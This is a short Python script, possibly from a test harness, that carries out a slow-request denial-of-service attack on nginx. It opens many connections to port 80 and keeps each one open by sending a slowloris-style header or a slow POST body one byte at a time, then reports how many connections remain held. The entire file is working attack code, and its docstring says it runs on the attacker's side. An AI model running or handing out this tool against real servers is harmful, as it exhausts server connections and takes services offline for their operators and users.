"""Sends endless requests slowly, byte by byte, to use up nginx's connections.

The program runs on the attacker as `python3 -c`. Arguments: the endless part ("headers", as in slowloris, or "body"),
the address, the host's name, the number of connections, and the number of seconds. Prints how many connections are held
at the end.
"""

import sys
import time
from socket import create_connection, socket

PAUSE_S = 2
BEGIN = {
    "headers": "GET / HTTP/1.1\r\nX-A: ",
    "body": "POST / HTTP/1.1\r\nHost: {}\r\nContent-Length: 1000000\r\n\r\n",
}


def main(endless: str, address: str, name: str, many: str, seconds: str) -> None:
    held = []
    for _ in range(int(many)):
        one = create_connection((address, 80), timeout=5)
        one.sendall(BEGIN[endless].format(name).encode())
        held.append(one)
    until = time.monotonic() + float(seconds)
    while time.monotonic() < until:
        time.sleep(PAUSE_S)
        held = [one for one in held if is_open(one)]
    print(len(held))


def is_open(one: socket) -> bool:
    """Return whether the connection accepts one more byte.

    If nginx refuses a body, nginx answers before the body ends.
    """
    one.settimeout(0)
    try:
        one.sendall(b"a")
        return bool(one.recv(65536))
    except BlockingIOError:
        return True
    except OSError:
        return False


main(*sys.argv[1:])
